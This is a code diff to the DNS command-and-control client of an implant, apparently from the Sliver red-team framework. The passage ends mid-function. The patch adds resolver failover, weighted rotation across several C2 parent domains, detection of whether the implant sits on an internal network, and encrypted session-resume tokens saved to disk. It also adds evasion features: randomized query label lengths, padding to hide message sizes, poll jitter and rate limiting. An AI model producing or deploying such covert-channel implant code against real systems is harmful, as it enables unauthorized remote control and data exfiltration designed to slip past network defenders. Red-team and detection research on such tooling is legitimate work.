@@ -53,15 +53,20 @@ package dnsclient
 // {{if .Config.DNSc2Enabled}}
 
 import (
+	"bytes"
 	"crypto/rand"
+	"encoding/ascii85"
 	"encoding/binary"
 	"errors"
 	"hash/crc32"
 	insecureRand "math/rand"
+	"net"
 	"net/url"
+	"os"
 	"strconv"
 	"strings"
 	"sync"
+	"sync/atomic"
 	"time"
 
 	// {{if .Config.Debug}}
@@ -81,6 +86,47 @@ const (
 	sessionIDBitMask = 0x00ffffff // Bitwise mask to get the dns session ID
 	metricsMaxSize   = 8
 	queueBufSize     = 1024
+	bytesPerTxt      = 182 // 189 with base64, -6 metadata, -1 margin
+	dnsMsgOverhead   = 9   // Start and length of Data in a DATA_TO_IMPLANT response
+	txtChars         = 252 // TXT characters that fit in a 512 byte response
+	txtProbeSize     = 128 // Each TXT encoding probe covers half of the byte values
+
+	// Calibration probes that fail are retried so a lost packet doesn't shrink the
+	// calibrated size, and a truncated answer shrinks it by 1/calibrationBackoff
+	calibrationAttempts = 2
+	calibrationBackoff  = 8
+	minCalibratedTXT    = 64 // TXT characters
+
+	defaultHealthCheckInterval = time.Minute * 5
+	resumeKeyPurpose           = "dns-session-resume"
+	defaultResolverErrorRate   = 0.5
+	defaultParentErrorRate     = 0.5
+	defaultChunkRetryCount     = 3
+	errorRateWindow            = time.Minute
+
+	// EDNS0 payload size that avoids ip fragmentation on most paths
+	defaultEDNS0Size = 1232
+	maxEDNS0Size     = 4096
+
+	// Random padding added to POLL and NOP messages
+	minPadding = 4
+	maxPadding = 16
+
+	// Number of query lengths used when query padding is enabled
+	defaultQueryPadding = 4
+
+	// Randomized label splitting
+	maxLabelLength = 63
+	minLabelLength = 8
+	maxExtraLabels = 2
+
+	// Progress is only reported for messages of at least progressMinChunks queries,
+	// at most progressSteps times per message
+	progressMinChunks = 16
+	progressSteps     = 20
+
+	// Backoff starts from here when the poll interval is shorter (or zero)
+	minPollBackoff = 500 * time.Millisecond
 )
 
 var (
@@ -92,6 +138,11 @@ var (
 	ErrInvalidResponse     = errors.New("invalid response")
 	ErrInvalidIndex        = errors.New("invalid start/stop index")
 	ErrEmptyResponse       = errors.New("empty response")
+	ErrInvalidResumeToken  = errors.New("invalid resume token")
+
+	// Resolver IPs/CIDRs set at generate time, applied to any resolver source
+	resolverAllowList = `{{.Config.DNSResolverAllow}}`
+	resolverDenyList  = `{{.Config.DNSResolverDeny}}`
 )
 
 // DNSOptions - c2 specific options
@@ -104,6 +155,44 @@ type DNSOptions struct {
 	ForceBase32        bool
 	ForceResolvConf    string
 	ForceResolvers     string
+
+	ResolverMaxErrors   int
+	ResolverErrorRate   float64
+	HealthCheckInterval time.Duration
+
+	PollInterval    time.Duration
+	PollJitter      time.Duration
+	PollMaxInterval time.Duration
+
+	RecordType string
+	ResumePath string
+
+	InternalParent string
+	EDNS0Size      uint16
+
+	MaxQueriesPerMinute int
+
+	Parents         []DNSParent
+	ParentRotation  string
+	ParentErrorRate float64
+
+	ChunkRetryCount int
+
+	TXTEncoding dnspb.TXTEncoding
+
+	RandomizeLabels bool
+	QueryPadding    int
+
+	Diagnostics bool
+
+	Calibrate bool
+}
+
+// DNSParent - An additional parent domain served by the same listener, parents
+// are picked in proportion to their weight when rotating
+type DNSParent struct {
+	Domain string
+	Weight int
 }
 
 // ParseDNSOptions - Parse c2 specific options
@@ -133,6 +222,112 @@ func ParseDNSOptions(c2URI *url.URL) *DNSOptions {
 	if err != nil || maxErrors < 0 {
 		maxErrors = 10
 	}
+	// Max fingerprint errors before a resolver is dropped, by default any error
+	resolverMaxErrors, err := strconv.Atoi(c2URI.Query().Get("resolver-max-errors"))
+	if err != nil || resolverMaxErrors < 0 {
+		resolverMaxErrors = 0
+	}
+	// Resolvers that fail more than this fraction of their recent queries are not given work
+	resolverErrorRate, err := strconv.ParseFloat(c2URI.Query().Get("resolver-error-rate"), 64)
+	if err != nil || resolverErrorRate < 0 || 1 < resolverErrorRate {
+		resolverErrorRate = defaultResolverErrorRate
+	}
+	// Interval at which dropped resolvers are re-checked, set to 0 to disable
+	healthCheckInterval, err := time.ParseDuration(c2URI.Query().Get("health-check-interval"))
+	if err != nil || healthCheckInterval < 0 {
+		healthCheckInterval = defaultHealthCheckInterval
+	}
+	// Minimum time between polls, by default polls are only paced by the caller
+	pollInterval, err := time.ParseDuration(c2URI.Query().Get("poll-interval"))
+	if err != nil || pollInterval < 0 {
+		pollInterval = 0
+	}
+	// Random delay added to each poll interval
+	pollJitter, err := time.ParseDuration(c2URI.Query().Get("poll-jitter"))
+	if err != nil || pollJitter < 0 {
+		pollJitter = 0
+	}
+	// Poll interval doubles after each empty poll up to this value, by default no backoff
+	pollMaxInterval, err := time.ParseDuration(c2URI.Query().Get("poll-max-interval"))
+	if err != nil || pollMaxInterval < pollInterval {
+		pollMaxInterval = pollInterval
+	}
+
+	// Record types used for C2, by default A and TXT
+	recordType := strings.ToLower(c2URI.Query().Get("record-type"))
+
+	// Persist an encrypted token to this path so a restarted implant can resume its
+	// dns session, by default sessions are not resumable
+	resumePath := c2URI.Query().Get("resume-path")
+
+	// Parent domain served by an internal dns server, used instead of the c2 uri's
+	// parent when the internal dns server answers, i.e. when we're on the internal network
+	internalParent := c2URI.Query().Get("internal-parent")
+
+	// EDNS0 udp payload size advertised in queries, larger responses are only used
+	// if the resolvers pass them through. Set to 0 to disable EDNS0
+	edns0Size, err := strconv.Atoi(c2URI.Query().Get("edns0-size"))
+	if err != nil || edns0Size < 0 || maxEDNS0Size < edns0Size {
+		edns0Size = defaultEDNS0Size
+	}
+	if 0 < edns0Size && edns0Size < dns.MinMsgSize {
+		edns0Size = 0 // Nothing to gain
+	}
+
+	// Queries are spaced out so there are never more than this many per minute, by
+	// default queries are not rate limited
+	maxQueriesPerMinute, err := strconv.Atoi(c2URI.Query().Get("max-queries-per-minute"))
+	if err != nil || maxQueriesPerMinute < 0 {
+		maxQueriesPerMinute = 0
+	}
+
+	// Additional parent domains in order of preference, the c2 uri's parent is always
+	// the first. A weight can be given after a ':' e.g. parents=a.example.com:3,b.example.com
+	parents := parseParents(c2URI.Query().Get("parents"))
+	// 'session' picks a parent per session and 'message' picks one per message, by
+	// default the first parent is used until it fails
+	parentRotation := strings.ToLower(c2URI.Query().Get("parent-rotation"))
+	// Fail over to another parent when more than this fraction of recent queries fail
+	parentErrorRate, err := strconv.ParseFloat(c2URI.Query().Get("parent-error-rate"), 64)
+	if err != nil || parentErrorRate < 0 || 1 < parentErrorRate {
+		parentErrorRate = defaultParentErrorRate
+	}
+	// Re-request a chunk of a message this many times before giving up on the message
+	chunkRetryCount, err := strconv.Atoi(c2URI.Query().Get("chunk-retry-count"))
+	if err != nil || chunkRetryCount < 0 {
+		chunkRetryCount = defaultChunkRetryCount
+	}
+
+	// The most efficient TXT encoding to try, the encoding is negotiated with the
+	// server and every resolver has to pass it through intact
+	txtEncoding := dnspb.TXTEncoding_RAW
+	switch strings.ToLower(c2URI.Query().Get("txt-encoding")) {
+	case "base64":
+		txtEncoding = dnspb.TXTEncoding_BASE64
+	case "base85":
+		txtEncoding = dnspb.TXTEncoding_BASE85
+	}
+
+	// Split subdata into labels of random lengths instead of 63 characters, so the
+	// queries for identical messages don't look the same
+	randomizeLabels := strings.ToLower(c2URI.Query().Get("randomize-labels")) != "false"
+
+	// Pad queries so their subdata is one of this many fixed lengths instead of
+	// leaking the size of each message, 'true' uses the default number of lengths.
+	// By default queries are not padded
+	queryPadding, err := strconv.Atoi(c2URI.Query().Get("query-padding"))
+	if strings.ToLower(c2URI.Query().Get("query-padding")) == "true" {
+		queryPadding = defaultQueryPadding
+	} else if err != nil || queryPadding < 0 {
+		queryPadding = 0
+	}
+
+	// Diagnostic mode reports which resolvers filter or rewrite answers to the server
+	diagnostics := strings.ToLower(c2URI.Query().Get("diagnostics")) == "true"
+
+	// Measure the longest queries and TXT answers each resolver passes through intact
+	// instead of assuming the largest sizes the protocol allows
+	calibrate := strings.ToLower(c2URI.Query().Get("calibrate")) != "false"
 
 	return &DNSOptions{
 		QueryTimeout:       queryTimeout,
@@ -143,7 +338,60 @@ func ParseDNSOptions(c2URI *url.URL) *DNSOptions {
 		ForceBase32:        strings.ToLower(c2URI.Query().Get("force-base32")) == "true",
 		ForceResolvConf:    c2URI.Query().Get("force-resolv-conf"),
 		ForceResolvers:     c2URI.Query().Get("resolvers"),
+
+		ResolverMaxErrors:   resolverMaxErrors,
+		ResolverErrorRate:   resolverErrorRate,
+		HealthCheckInterval: healthCheckInterval,
+
+		PollInterval:    pollInterval,
+		PollJitter:      pollJitter,
+		PollMaxInterval: pollMaxInterval,
+
+		RecordType: recordType,
+		ResumePath: resumePath,
+
+		InternalParent: internalParent,
+		EDNS0Size:      uint16(edns0Size),
+
+		MaxQueriesPerMinute: maxQueriesPerMinute,
+
+		Parents:         parents,
+		ParentRotation:  parentRotation,
+		ParentErrorRate: parentErrorRate,
+
+		ChunkRetryCount: chunkRetryCount,
+
+		TXTEncoding: txtEncoding,
+
+		RandomizeLabels: randomizeLabels,
+		QueryPadding:    queryPadding,
+
+		Diagnostics: diagnostics,
+
+		Calibrate: calibrate,
+	}
+}
+
+// parseParents - Comma separated list of parent domains with optional weights
+func parseParents(value string) []DNSParent {
+	parents := []DNSParent{}
+	for _, parent := range strings.Split(value, ",") {
+		parent = strings.TrimSpace(parent)
+		weight := 1
+		if index := strings.LastIndex(parent, ":"); index != -1 {
+			var err error
+			weight, err = strconv.Atoi(parent[index+1:])
+			if err != nil || weight < 1 {
+				weight = 1
+			}
+			parent = parent[:index]
+		}
+		if parent == "" {
+			continue
+		}
+		parents = append(parents, DNSParent{Domain: parent, Weight: weight})
 	}
+	return parents
 }
 
 // DNSStartSession - Attempt to establish a connection to the DNS server of 'parent'
@@ -162,34 +410,93 @@ func DNSStartSession(parent string, opts *DNSOptions) (*SliverDNSClient, error)
 // NewDNSClient - Initialize a new DNS client, generally you should use DNSStartSession
 // instead of this function, this is exported mostly for unit testing
 func NewDNSClient(parent string, opts *DNSOptions) *SliverDNSClient {
-	parent = strings.TrimSuffix("."+strings.TrimPrefix(parent, "."), ".") + "."
-	return &SliverDNSClient{
+	externalParents := []*parentDomain{newParentDomain(parent, 1)}
+	for _, extra := range opts.Parents {
+		if normalizeParent(extra.Domain) == externalParents[0].Domain {
+			externalParents[0].Weight = extra.Weight
+			continue
+		}
+		externalParents = append(externalParents, newParentDomain(extra.Domain, extra.Weight))
+	}
+	internalParent := ""
+	if opts.InternalParent != "" {
+		internalParent = normalizeParent(opts.InternalParent)
+	}
+	valueType, dataType := recordTypes(opts.RecordType)
+	client := &SliverDNSClient{
 		metadata:        map[string]*ResolverMetadata{},
-		parent:          parent,
+		externalParents: externalParents,
+		internalParent:  internalParent,
+		parentRotation:  opts.ParentRotation,
+		parentErrorRate: opts.ParentErrorRate,
 		forceBase32:     opts.ForceBase32,
 		forceResolvConf: opts.ForceResolvConf,
 		forceResolvers:  opts.ForceResolvers,
 		queryTimeout:    opts.QueryTimeout,
 		retryWait:       opts.RetryWait,
 		retryCount:      opts.RetryCount,
+		chunkRetryCount: opts.ChunkRetryCount,
+		randomizeLabels: opts.RandomizeLabels,
+		queryPadding:    opts.QueryPadding,
+		diagnostics:     opts.Diagnostics,
+		calibrate:       opts.Calibrate,
 		closed:          true,
 
+		resolverMaxErrors:   opts.ResolverMaxErrors,
+		resolverErrorRate:   opts.ResolverErrorRate,
+		healthCheckInterval: opts.HealthCheckInterval,
+
+		pollInterval:    opts.PollInterval,
+		pollJitter:      opts.PollJitter,
+		pollMaxInterval: opts.PollMaxInterval,
+
+		valueType:  valueType,
+		dataType:   dataType,
+		resumePath: opts.ResumePath,
+		ednsSize:   opts.EDNS0Size,
+
+		maxTXTEncoding: opts.TXTEncoding,
+		limiter:        newQueryLimiter(opts.MaxQueriesPerMinute),
+
 		WorkersPerResolver: opts.WorkersPerResolver,
-		subdataSpace:       254 - len(parent) - (1 + (254-len(parent))/64),
 		base32:             encoders.Base32{},
 		base58:             encoders.Base58{},
 	}
+	client.setParents(externalParents)
+	return client
+}
+
+// normalizeParent - Parent domains always have a leading and trailing '.'
+func normalizeParent(parent string) string {
+	return strings.TrimSuffix("."+strings.TrimPrefix(parent, "."), ".") + "."
+}
+
+func subdataSpace(parent string) int {
+	return 254 - len(parent) - (1 + (254-len(parent))/64)
 }
 
 // SliverDNSClient - The DNS client context
 type SliverDNSClient struct {
-	resolvers  []DNSResolver
-	resolvConf *dns.ClientConfig
-	metadata   map[string]*ResolverMetadata
-
-	parent          string
+	resolvers        []DNSResolver
+	droppedResolvers []DNSResolver
+	resolversMutex   sync.RWMutex
+	resolvConf       *dns.ClientConfig
+	metadata         map[string]*ResolverMetadata
+
+	parent          string // Current parent, protected by parentMutex
+	parents         []*parentDomain
+	externalParents []*parentDomain
+	internalParent  string
+	parentRotation  string
+	parentErrorRate float64
+	parentMutex     sync.Mutex
 	retryWait       time.Duration
 	retryCount      int
+	chunkRetryCount int
+	randomizeLabels bool
+	queryPadding    int
+	diagnostics     bool
+	calibrate       bool
 	queryTimeout    time.Duration
 	forceBase32     bool
 	forceResolvConf string
@@ -200,40 +507,82 @@ type SliverDNSClient struct {
 	closed          bool
 
 	cipherCtx          *cryptography.CipherContext
-	recvQueue          chan *DNSWork
-	sendQueue          chan *DNSWork
 	workerPool         []*DNSWorker
 	WorkersPerResolver int
 
+	resolverMaxErrors   int
+	resolverErrorRate   float64
+	healthCheckInterval time.Duration
+	healthCheckCtrl     chan struct{}
+
+	pollInterval    time.Duration
+	pollJitter      time.Duration
+	pollMaxInterval time.Duration
+	pollMutex       sync.Mutex
+	lastPoll        time.Time
+	emptyPolls      int
+	pollCtrl        chan struct{}
+
+	valueType uint16 // Record type for queries that expect a 4 byte value
+	dataType  uint16 // Record type for queries that expect data
+
+	resumePath string
+
+	ednsSize     uint16
+	ednsDisabled bool // Set if a response was truncated, protected by resolversMutex
+
+	maxTXTEncoding dnspb.TXTEncoding
+
+	// Agreed on with the server during init or resume, a zero chunk size means the
+	// server did not negotiate and only base64 is used
+	negotiatedEncoding dnspb.TXTEncoding
+	chunkSize          uint32
+
+	limiter *queryLimiter // Shared by all workers, nil if queries are not rate limited
+
 	base32 encoders.Base32
 	base58 encoders.Base58
 
 	enableCaseSensitiveEncoder bool
+
+	progress ProgressFunc
 }
 
+// ProgressFunc - Reports the progress of a large message, the envelope id is zero for
+// messages from the server since it's unknown until the message is decrypted
+type ProgressFunc func(envelopeID int64, toImplant bool, transferred uint32, total uint32)
+
 // DNSWork - Single unit of work for DNSWorker
 type DNSWork struct {
 	QueryType uint16
 	Domain    string
+	Parent    *parentDomain
+	Encoding  dnspb.TXTEncoding
+	Seq       int // Copied to the result so results can be matched to their work
 	Wg        *sync.WaitGroup
 	Results   chan *DNSResult
 }
 
 // DNSResult - Result of a DNSWork unit
 type DNSResult struct {
-	Data []byte
-	Err  error
+	Data     []byte
+	Err      error
+	Seq      int
+	Metadata *ResolverMetadata // Of the resolver the query was sent to
 }
 
-// DNSWorker - Used for parallel send/recv
+// DNSWorker - Used for parallel send/recv, each worker has its own queue
+// so work can be scheduled based on the resolver's performance
 type DNSWorker struct {
 	resolver DNSResolver
+	limiter  *queryLimiter
+	queue    chan *DNSWork
 	Metadata *ResolverMetadata
 	Ctrl     chan struct{}
 }
 
-// Start - Starts with worker with a given queue
-func (w *DNSWorker) Start(id int, recvQueue <-chan *DNSWork, sendQueue <-chan *DNSWork) {
+// Start - Starts the worker
+func (w *DNSWorker) Start(id int) {
 	go func() {
 		// {{if .Config.Debug}}
 		log.Printf("[dns] starting worker #%d", id)
@@ -242,25 +591,23 @@ func (w *DNSWorker) Start(id int, recvQueue <-chan *DNSWork, sendQueue <-chan *D
 		for {
 			var work *DNSWork
 			select {
-			case work = <-recvQueue:
-			case work = <-sendQueue:
+			case work = <-w.queue:
 			case <-w.Ctrl:
 				return
 			}
-			var data []byte
-			var err error
+			if work == nil {
+				return // Queue was closed
+			}
 
 			// {{if .Config.Debug}}
 			log.Printf("[dns] #%d work: %v", id, work)
 			// {{end}}
-			switch work.QueryType {
-			case dns.TypeA:
-				data, _, err = w.resolver.A(work.Domain)
-			case dns.TypeTXT:
-				data, _, err = w.resolver.TXT(work.Domain)
-			}
+			w.limiter.wait()
+			data, rtt, err := lookup(w.resolver, work.Parent.Domain, work.QueryType, work.Domain, work.Encoding)
+			recordOutcome(w.Metadata, rtt, err)
+			recordOutcome(work.Parent.Metadata, rtt, err)
 			if work.Results != nil {
-				work.Results <- &DNSResult{data, err}
+				work.Results <- &DNSResult{data, err, work.Seq, w.Metadata}
 			}
 			if work.Wg != nil {
 				work.Wg.Done()
@@ -273,8 +620,35 @@ func (w *DNSWorker) Start(id int, recvQueue <-chan *DNSWork, sendQueue <-chan *D
 type ResolverMetadata struct {
 	Address      string
 	EnableBase58 bool
+	EnableEDNS0  bool
+	TXTEncoding  dnspb.TXTEncoding
 	Metrics      []time.Duration
 	Errors       int
+
+	// Answers that did not match the query's checksum, these are counted as errors
+	Queries    int
+	Mismatches int
+	Mismatch   []byte // First mismatched answer
+
+	// Longest subdata and most TXT answer characters that made it through the path
+	// intact, zero if not calibrated. Protected by the mutex once the resolver has
+	// workers since they're adjusted during the session
+	MaxQuerySize  int
+	MaxAnswerSize int
+
+	// Only probed in diagnostic mode
+	TXTQueries    int
+	TXTErrors     int
+	TXTMismatches int
+	TXTMismatch   []byte
+
+	outcomes []resolverOutcome // Most recent first
+	mutex    sync.Mutex
+}
+
+type resolverOutcome struct {
+	at     time.Time
+	failed bool
 }
 
 // SessionInit - Initialize DNS session
@@ -283,6 +657,7 @@ func (s *SliverDNSClient) SessionInit() error {
 	if err != nil {
 		return err
 	}
+	s.resolvConf.Servers = filterResolvers(s.resolvConf.Servers, resolverAllowList, resolverDenyList)
 	if len(s.resolvConf.Servers) < 1 {
 		// {{if .Config.Debug}}
 		log.Printf("[dns] no configured resolvers!")
@@ -290,18 +665,27 @@ func (s *SliverDNSClient) SessionInit() error {
 		return errNoResolvers
 	}
 	s.resolvers = []DNSResolver{}
+	s.droppedResolvers = []DNSResolver{}
 	for _, server := range s.resolvConf.Servers {
 		s.resolvers = append(s.resolvers,
-			NewGenericResolver(server, s.resolvConf.Port, s.retryWait, s.retryCount, s.queryTimeout),
+			NewGenericResolver(server, s.resolvConf.Port, s.retryWait, s.retryCount, s.queryTimeout, s.ednsSize),
 		)
 	}
 	// {{if .Config.Debug}}
 	log.Printf("[dns] found resolvers: %v", s.resolvConf.Servers)
 	// {{end}}
 
-	err = s.getDNSSessionID() // Get a 'dns session id'
-	if err != nil {
-		return err
+	probed := s.selectParent()
+	err = s.resume()
+	resumed := err == nil
+	if !resumed && !probed {
+		// {{if .Config.Debug}}
+		log.Printf("[dns] could not resume session: %v", err)
+		// {{end}}
+		err = s.getDNSSessionID() // Get a 'dns session id'
+		if err != nil {
+			return err
+		}
 	}
 	s.fingerprintResolvers() // Fingerprint the resolvers
 	if len(s.resolvers) < 1 {
@@ -310,7 +694,130 @@ func (s *SliverDNSClient) SessionInit() error {
 		// {{end}}
 		return errNoResolvers
 	}
+	if !resumed {
+		err = s.keyExchange()
+		if err != nil {
+			return err
+		}
+		s.saveResumeToken()
+	}
+
+	// {{if .Config.Debug}}
+	log.Printf("[dns] starting worker(s) ...")
+	// {{end}}
+
+	// Workers per-resolver
+	for i := 0; i < s.WorkersPerResolver; i++ {
+		for id, resolver := range s.resolvers {
+			s.startWorker(id, resolver)
+		}
+	}
+
+	s.closed = false
+	s.pollMutex.Lock()
+	s.pollCtrl = make(chan struct{})
+	s.pollMutex.Unlock()
+	if 0 < s.healthCheckInterval {
+		s.resolversMutex.Lock()
+		s.healthCheckCtrl = make(chan struct{})
+		go s.resolverHealthCheck(s.healthCheckCtrl)
+		s.resolversMutex.Unlock()
+	}
+	return nil
+}
+
+// selectParent - If an internal parent is configured, probe the resolvers by fetching
+// a dns session id via the internal parent. Only the internal dns server can answer
+// for the internal parent, so if it does we're on the internal network and use it
+// for the rest of the session, otherwise we fall back to the external parent. Returns
+// true if the probe fetched a dns session id.
+func (s *SliverDNSClient) selectParent() bool {
+	if s.internalParent == "" {
+		return false
+	}
+	s.setParents([]*parentDomain{newParentDomain(s.internalParent, 1)})
+	err := s.getDNSSessionID()
+	if err == nil {
+		// {{if .Config.Debug}}
+		log.Printf("[dns] internal parent %s is reachable", s.internalParent)
+		// {{end}}
+		return true
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns] internal parent %s is unreachable (%v)", s.internalParent, err)
+	// {{end}}
+	s.setParents(s.externalParents)
+	return false
+}
+
+// setParents - Set the parents queries are sent to, subdata must fit under any of them
+// so the subdata space is based on the longest parent
+func (s *SliverDNSClient) setParents(parents []*parentDomain) {
+	s.parentMutex.Lock()
+	defer s.parentMutex.Unlock()
+	s.parents = parents
+	s.parent = parents[0].Domain
+	if s.parentRotation == "session" {
+		s.parent = weightedParent(parents).Domain
+	}
+	s.subdataSpace = subdataSpace(s.longestParent().Domain)
+}
+
+// longestParent - The longest of the current parents, parentMutex must be held
+func (s *SliverDNSClient) longestParent() *parentDomain {
+	longest := s.parents[0]
+	for _, parent := range s.parents {
+		if len(longest.Domain) < len(parent.Domain) {
+			longest = parent
+		}
+	}
+	return longest
+}
+
+// nextParent - The parent to use for the next message. With 'message' rotation a
+// parent is picked per message, otherwise we stick with the current parent until its
+// recent error rate (e.g. NXDOMAIN or timeouts) exceeds the threshold and then fail
+// over to the next healthy parent.
+func (s *SliverDNSClient) nextParent() *parentDomain {
+	s.parentMutex.Lock()
+	defer s.parentMutex.Unlock()
+	now := time.Now()
+	var current *parentDomain
+	healthy := []*parentDomain{}
+	for _, parent := range s.parents {
+		rate := errorRate(parent.Metadata, now)
+		if parent.Domain == s.parent {
+			current = parent
+			if rate <= s.parentErrorRate && s.parentRotation != "message" {
+				return current
+			}
+		}
+		if rate <= s.parentErrorRate {
+			healthy = append(healthy, parent)
+		}
+	}
+	if len(healthy) < 1 {
+		if current != nil {
+			return current // Every parent is failing, nothing to fail over to
+		}
+		healthy = s.parents
+	}
+	if s.parentRotation == "message" {
+		return weightedParent(healthy)
+	}
+	next := healthy[0]
+	if s.parentRotation == "session" {
+		next = weightedParent(healthy)
+	}
+	// {{if .Config.Debug}}
+	log.Printf("[dns] parent %s is failing, switching to %s", s.parent, next.Domain)
+	// {{end}}
+	s.parent = next.Domain
+	return next
+}
 
+// keyExchange - Establish a new session key with the server
+func (s *SliverDNSClient) keyExchange() error {
 	// Key agreement with server
 	sKey := cryptography.RandomKey()
 	s.cipherCtx = cryptography.NewCipherContext(sKey)
@@ -328,10 +835,13 @@ func (s *SliverDNSClient) SessionInit() error {
 	} else {
 		encoder = s.base32
 	}
+	encoding, chunkSize := s.proposal()
 	initMsg := &dnspb.DNSMessage{
-		ID:   s.nextMsgID(),
-		Type: dnspb.DNSMessageType_INIT,
-		Size: uint32(len(initData)),
+		ID:       s.nextMsgID(),
+		Type:     dnspb.DNSMessageType_INIT,
+		Size:     uint32(len(initData)),
+		Encoding: encoding,
+		Stop:     chunkSize,
 	}
 	respData, err := s.sendInit(resolver, encoder, initMsg, initData)
 	if err != nil {
@@ -353,43 +863,204 @@ func (s *SliverDNSClient) SessionInit() error {
 		// {{end}}
 		return err
 	}
+	s.negotiated(data)
 
 	// Good to go!
 	// {{if .Config.Debug}}
 	log.Printf("[dns] key exchange was successful!")
 	// {{end}}
+	return nil
+}
+
+// resume - Resume the dns session saved in the resume token, if any, the server
+// must still have the session and we have to prove we have the session key. If
+// the session can't be resumed the token is replaced after a new key exchange.
+func (s *SliverDNSClient) resume() error {
+	if s.resumePath == "" {
+		return ErrInvalidResumeToken
+	}
+	dnsSessionID, sessionKey, err := loadResumeToken(s.resumePath)
+	if err != nil {
+		return err
+	}
+	cipherCtx := cryptography.NewCipherContext(sessionKey)
+	buf := make([]byte, 4)
+	binary.LittleEndian.PutUint32(buf, dnsSessionID)
+	resumeData, err := cipherCtx.Encrypt(buf)
+	if err != nil {
+		return err
+	}
+	s.dnsSessionID = dnsSessionID
+	encoding, chunkSize := s.proposal()
+	resumeMsg := &dnspb.DNSMessage{
+		ID:       s.nextMsgID(),
+		Type:     dnspb.DNSMessageType_RESUME,
+		Size:     uint32(len(resumeData)),
+		Encoding: encoding,
+		Stop:     chunkSize,
+	}
+	for _, resolver := range s.resolvers {
+		respData, err := s.sendInit(resolver, s.base32, resumeMsg, resumeData)
+		if err != nil {
+			continue // The server doesn't know the session or the resolver failed
+		}
+		data, err := cipherCtx.Decrypt(respData)
+		if err != nil || len(data) < 4 || binary.LittleEndian.Uint32(data)&sessionIDBitMask != dnsSessionID {
+			break
+		}
+		// {{if .Config.Debug}}
+		log.Printf("[dns] resumed dns session %d", dnsSessionID)
+		// {{end}}
+		s.cipherCtx = cipherCtx
+		s.negotiated(data)
+		return nil
+	}
+	return ErrInvalidResumeToken
+}
+
+// proposal - The densest TXT encoding and largest chunk size we could use if every
+// resolver passes them through, the server replies with what it agrees to. Only
+// TXT responses are negotiated.
+func (s *SliverDNSClient) proposal() (dnspb.TXTEncoding, uint32) {
+	if s.dataType != dns.TypeTXT {
+		return dnspb.TXTEncoding_BASE64, 0
+	}
+	if 0 < s.ednsSize {
+		return s.maxTXTEncoding, uint32(ednsBytesPerTxt(s.ednsSize, s.maxTXTEncoding))
+	}
+	return s.maxTXTEncoding, uint32(txtCapacity(txtChars, s.maxTXTEncoding) - dnsMsgOverhead - 1)
+}
+
+// negotiated - Parse what the server agreed to from an init or resume response,
+// older servers only respond with the dns session id
+func (s *SliverDNSClient) negotiated(data []byte) {
+	if len(data) < 9 {
+		s.negotiatedEncoding = dnspb.TXTEncoding_BASE64
+		s.chunkSize = 0
+		return
+	}
+	s.negotiatedEncoding = dnspb.TXTEncoding(data[4])
+	s.chunkSize = binary.LittleEndian.Uint32(data[5:])
+	// {{if .Config.Debug}}
+	log.Printf("[dns] negotiated %s txt encoding with %d byte chunks", s.negotiatedEncoding, s.chunkSize)
+	// {{end}}
+}
 
+// saveResumeToken - Persist the dns session ID and session key, encrypted with a key
+// derived from the implant's private key
+func (s *SliverDNSClient) saveResumeToken() {
+	if s.resumePath == "" {
+		return
+	}
+	token := make([]byte, 4, 4+len(s.cipherCtx.Key))
+	binary.LittleEndian.PutUint32(token, s.dnsSessionID)
+	token = append(token, s.cipherCtx.Key[:]...)
+	data, err := cryptography.Encrypt(cryptography.ImplantStorageKey(resumeKeyPurpose), token)
+	if err == nil {
+		err = os.WriteFile(s.resumePath, data, 0600)
+	}
 	// {{if .Config.Debug}}
-	log.Printf("[dns] starting worker(s) ...")
+	if err != nil {
+		log.Printf("[dns] failed to save resume token: %v", err)
+	}
 	// {{end}}
-	s.recvQueue = make(chan *DNSWork, queueBufSize)
-	s.sendQueue = make(chan *DNSWork, queueBufSize)
+}
 
-	// Workers per-resolver
-	for i := 0; i < s.WorkersPerResolver; i++ {
-		for id, resolver := range s.resolvers {
-			worker := &DNSWorker{
-				resolver: resolver,
-				Metadata: s.metadata[resolver.Address()],
-				Ctrl:     make(chan struct{}),
-			}
-			s.workerPool = append(s.workerPool, worker)
-			worker.Start(id, s.recvQueue, s.sendQueue)
+// loadResumeToken - Read the dns session ID and session key saved by saveResumeToken
+func loadResumeToken(resumePath string) (uint32, [32]byte, error) {
+	var sessionKey [32]byte
+	data, err := os.ReadFile(resumePath)
+	if err != nil {
+		return 0, sessionKey, err
+	}
+	token, err := cryptography.Decrypt(cryptography.ImplantStorageKey(resumeKeyPurpose), data)
+	if err != nil || len(token) != 4+len(sessionKey) {
+		return 0, sessionKey, ErrInvalidResumeToken
+	}
+	dnsSessionID := binary.LittleEndian.Uint32(token) & sessionIDBitMask
+	if dnsSessionID == 0 {
+		return 0, sessionKey, ErrInvalidResumeToken
+	}
+	copy(sessionKey[:], token[4:])
+	return dnsSessionID, sessionKey, nil
+}
+
+func (s *SliverDNSClient) startWorker(id int, resolver DNSResolver) {
+	worker := &DNSWorker{
+		resolver: resolver,
+		limiter:  s.limiter,
+		queue:    make(chan *DNSWork, queueBufSize),
+		Metadata: s.metadata[resolver.Address()],
+		Ctrl:     make(chan struct{}),
+	}
+	s.workerPool = append(s.workerPool, worker)
+	worker.Start(id)
+}
+
+// nextWorker - Pick a worker at random, weighted toward resolvers with a lower average
+// rtt and workers with a shorter queue. Resolvers whose recent error rate exceeds the
+// threshold are skipped, unless all of them do. Returns nil if there are no workers.
+func (s *SliverDNSClient) nextWorker() *DNSWorker {
+	s.resolversMutex.RLock()
+	defer s.resolversMutex.RUnlock()
+	if len(s.workerPool) < 1 {
+		return nil
+	}
+	weights := make([]float64, len(s.workerPool))
+	total := float64(0)
+	for index, worker := range s.workerPool {
+		if s.resolverErrorRate < errorRate(worker.Metadata, time.Now()) {
+			continue
+		}
+		weights[index] = workerWeight(s.averageRtt(worker.Metadata), len(worker.queue))
+		total += weights[index]
+	}
+	if total == 0 {
+		return s.workerPool[insecureRand.Intn(len(s.workerPool))]
+	}
+	pick := insecureRand.Float64() * total
+	var worker *DNSWorker
+	for index, weight := range weights {
+		if weight == 0 {
+			continue
+		}
+		worker = s.workerPool[index]
+		pick -= weight
+		if pick < 0 {
+			break
 		}
 	}
+	return worker
+}
 
-	s.closed = false
+// dispatch - Queue work on the next worker
+func (s *SliverDNSClient) dispatch(work *DNSWork) error {
+	worker := s.nextWorker()
+	if worker == nil {
+		return ErrClosed
+	}
+	worker.queue <- work
 	return nil
 }
 
+// workerWeight - Inversely proportional to the resolver's rtt and the number of
+// queued queries, resolvers faster than a millisecond are all treated the same
+func workerWeight(rtt time.Duration, queued int) float64 {
+	if rtt < time.Millisecond {
